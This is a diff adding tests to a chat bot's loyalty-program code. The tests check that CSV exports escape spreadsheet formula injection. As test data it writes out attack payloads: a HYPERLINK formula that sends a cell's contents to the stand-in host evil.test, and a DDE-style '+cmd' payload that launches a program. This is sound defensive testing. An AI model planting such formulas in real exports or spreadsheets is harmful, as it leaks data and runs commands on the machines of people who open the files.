@@ -8,6 +8,7 @@ import io
 from sqlalchemy import select
 
 from bot.app import App
+from bot.loyalty.export import FORMULA_STARTS, to_csv
 from models import AuditEntry, StaffRole
 from tests.chat import Chat
 
@@ -70,3 +71,32 @@ async def test_a_customer_cannot_export(app: App) -> None:
     await chat.say("/export")
     assert chat.text == app.translator("en", "fallback-hint")
     assert all(not r.files for r in chat.last)
+
+
+async def test_no_cell_of_an_export_is_a_formula_a_spreadsheet_would_run(app: App) -> None:
+    owner = Chat(app, "1", display_name="Eleni")
+    eleni = await owner.join("el", name="Ελένη")
+    owner_actor = await app.loyalty.staff.appoint(eleni, StaffRole.OWNER, by=None)
+    attack = '=HYPERLINK("http://evil.test/?d="&C2,"Prize")'
+    names = [attack, "+cmd|' /C calc'!A0", "-2+3 Bob", "@SUM(A1:A9)"]
+    ids = [await Chat(app, str(10 + i)).join("en", name=name) for i, name in enumerate(names)]
+    await app.loyalty.customers.register(
+        "test", "phone", language="en", name="Zawadi", phone="+254700000001"
+    )
+    await app.loyalty.points.adjust(ids[0], 5, "=1+1 prize", actor=owner_actor)
+    await owner.say("/export")
+    customers_file, ledger_file = owner.last[0].files
+    customers = _rows(customers_file.data)
+    assert {c["name"] for c in customers} >= {"'" + name for name in names}
+    # Numbers run nothing and stay numbers: a phone, a negative amount.
+    assert "+254700000001" in {c["phone"] for c in customers}
+    ledger = _rows(ledger_file.data)
+    assert any(r["note"] == "'=1+1 prize" and r["amount"] == "5" for r in ledger)
+    for row in [*customers, *ledger]:
+        for cell in row.values():
+            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").isdigit(), cell
+
+
+def test_tabs_and_returns_that_start_a_cell_are_kept_as_text() -> None:
+    data = to_csv(("a", "b"), [("\tx", "\ry")]).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(data)))[1] == ["'\tx", "'\ry"]
